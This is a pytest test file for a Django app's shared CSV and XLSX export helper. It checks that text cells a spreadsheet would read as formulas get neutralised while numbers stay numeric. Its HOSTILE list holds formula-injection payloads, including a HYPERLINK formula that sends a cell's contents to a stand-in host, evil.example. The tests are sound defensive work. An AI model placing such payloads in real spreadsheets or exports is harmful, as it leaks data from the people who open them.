"""One export helper for every CSV and XLSX (issue 21, finding 2): a text cell that a
spreadsheet would read as a formula is neutralised — a leading ``'`` in CSV, a string cell
(never a formula) in XLSX — and numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import pathlib
import re
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from djmoney.money import Money
from openpyxl import load_workbook

from common.exports import FORMULA_LEADS, csv_cell, csv_content, xlsx_workbook_bytes
from customers.models import ApiKey
from tests.factories import api_key_for

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_a_spreadsheet_would_compute_gets_a_leading_quote_in_csv(text):
    assert csv_cell(text) == "'" + text
    assert text[0] in "".join(FORMULA_LEADS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        (Money("-1000.00", "CNY"), "-1000.00"),
        (Decimal("1E+3"), "1000"),
        (date(2026, 11, 5), "2026-11-05"),
        ("plain 文本", "plain 文本"),
        ("a=b", "a=b"),  # only a leading character counts
        (None, ""),
    ],
)
def test_numbers_stay_numbers_in_csv(value, written):
    assert csv_cell(value) == written


def test_a_csv_file_keeps_the_neutralised_text_through_the_csv_reader():
    content = csv_content(["name", "amount"], [[text, Decimal("-1.00")] for text in HOSTILE])

    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))

    assert rows[1:] == [["'" + text, "-1.00"] for text in HOSTILE]


def test_xlsx_stores_text_as_string_cells_and_numbers_as_numeric_cells():
    rows = [[text, Decimal("-12.50"), 7, Money("3.20", "CNY")] for text in HOSTILE]

    sheet = load_workbook(io.BytesIO(xlsx_workbook_bytes(title="t", header=["a", "b", "c", "d"], rows=rows))).active

    for r, text in enumerate(HOSTILE, start=2):
        name, amount, count, money = (sheet.cell(row=r, column=c) for c in range(1, 5))
        # never "f" (a formula); XML reads a carriage return back as a line feed
        assert (name.data_type, name.value) == ("s", text.replace("\r", "\n"))
        assert name.quotePrefix is True
        assert (amount.data_type, amount.value) == ("n", -12.5)
        assert (count.data_type, count.value) == ("n", 7)
        assert (money.data_type, money.value, money.number_format) == ("n", 3.2, "0.00")


def test_every_export_goes_through_the_one_helper():
    """No module writes a CSV or a workbook itself: a new export cannot skip the rule (reading
    one, as the bank statement import does, is not an export)."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "var/", "bench/")) or relative == "common/exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\bWorkbook\(", text):
            offenders.append(relative)
    assert offenders == []


# --- The exports themselves -----------------------------------------------------------------


@pytest.fixture
def hostile_keys(acme_project):
    for text in HOSTILE[:4]:
        api_key_for(acme_project, name=text)
    return list(ApiKey.objects.order_by("pk"))


@pytest.mark.django_db
def test_the_admins_key_list_export_neutralises_key_names(admin_client, hostile_keys):
    changelist = reverse("admin:customers_apikey_changelist")
    selected = {"_selected_action": [k.pk for k in hostile_keys]}

    as_csv = admin_client.post(changelist, {"action": "export_as_csv", **selected})
    as_xlsx = admin_client.post(changelist, {"action": "export_as_xlsx", **selected})

    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + k.name for k in hostile_keys)
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in names) == sorted(k.name for k in hostile_keys)
    assert {c.data_type for c in names} == {"s"}


def test_the_streamed_csv_is_the_same_file_read_lazily():
    from common.exports import csv_chunks, csv_stream_response

    read: list[int] = []

    def rows():
        for n in range(2_500):
            read.append(n)
            yield [f"=cmd{n}", n, Decimal("-0.0000012500"), True, None]

    chunks = csv_chunks(["a", "b", "c", "d", "e"], rows(), bom=False, rows_per_chunk=1000)
    first = next(chunks)
    assert len(read) == 1000  # the first thousand rows only, not the whole file
    text = first + "".join(chunks)
    assert text == csv_content(["a", "b", "c", "d", "e"], rows(), bom=False)
    assert text.splitlines()[1] == "'=cmd0,0,-0.0000012500,True,"

    response = csv_stream_response(header=["a"], rows=iter([["@x"]]), filename="x.csv", bom=False)
    assert b"".join(response.streaming_content) == b"a\r\n'@x\r\n"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
